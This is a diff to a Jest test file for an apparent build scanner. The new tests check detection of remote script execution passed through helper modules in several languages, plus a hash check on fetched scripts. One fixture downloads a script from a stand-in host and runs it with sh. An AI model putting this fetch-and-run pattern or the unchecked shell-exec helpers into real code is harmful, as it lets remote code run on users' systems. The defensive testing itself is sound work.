@@ -48,6 +48,57 @@ describe('the modules of a program that a build runs', () => {
     expect(await failuresOf(image(lines, files), { [path]: code })).toEqual([]);
   });
 
+  it.each([
+    [
+      'python3 setup.py',
+      'setup.py',
+      'from util import run\nrun("JOB")\n',
+      'util.py',
+      'import subprocess\ndef run(cmd):\n    subprocess.run(cmd, shell=True)\n',
+    ],
+    [
+      'node s.js',
+      's.js',
+      'const { run } = require("./util");\nrun("JOB");\n',
+      'util.js',
+      'const { execSync } = require("child_process");\nexports.run = (cmd) => execSync(cmd, { stdio: "inherit" });\n',
+    ],
+    [
+      'node s.js',
+      's.js',
+      'const u = require("./util");\nu.run("JOB");\n',
+      'util.js',
+      'const { execSync } = require("child_process");\nexports.run = function (cmd) {\n  execSync(cmd);\n};\n',
+    ],
+    ['ruby s.rb', 's.rb', 'require_relative "util"\nrun("JOB")\n', 'util.rb', 'def run(cmd)\n  system(cmd)\nend\n'],
+    [
+      'php s.php',
+      's.php',
+      '<?php\nrequire "/app/util.php";\nrun("JOB");\n',
+      'util.php',
+      '<?php\nfunction run($c) { system($c); }\n',
+    ],
+  ])('run what a program gives to their functions: %s', async (run, path, code, module, text) => {
+    const files = (job: string): Files => image(`RUN ${run}`, { [path]: code.replace('JOB', job), [module]: text });
+    expect(await failuresOf(files('ldconfig'), files(FETCH))).toEqual(['remote-script-exec']);
+    const logs = text.replace(
+      /subprocess.run\(cmd, shell=True\)|execSync\(cmd[^)]*\)|system\(\$?c(?:md)?\)/,
+      'log(cmd)',
+    );
+    expect(await failuresOf({ ...files('ldconfig'), [module]: logs }, { ...files(FETCH), [module]: logs })).toEqual([]);
+  });
+
+  it('check what a program fetches', async () => {
+    const fetches = (check: string): string =>
+      `import subprocess, urllib.request\n${check}\ndata = urllib.request.urlopen("https://x.example.com/i.sh").read()\nopen("/i.sh", "wb").write(data)\nsubprocess.run(["sh", "/i.sh"])\n`;
+    const own = 'import hashlib\ndef verify(d, w):\n    if hashlib.sha256(d).hexdigest() != w: raise SystemExit(1)\n';
+    const base = image('RUN python3 setup.py', { 'setup.py': fetches(own) });
+    expect(await failuresOf(base, { 'setup.py': fetches('from checks import verify'), 'checks.py': own })).toEqual([]);
+    expect(
+      await failuresOf(base, { 'setup.py': fetches('import checks'), 'checks.py': 'def verify(d, w): pass\n' }),
+    ).not.toEqual([]);
+  });
+
   it('have their commands at their lines', async () => {
     const { findings } = await scanOf(
       image('RUN python3 setup.py', { 'setup.py': 'import tools\n', 'tools.py': PYTHON }),
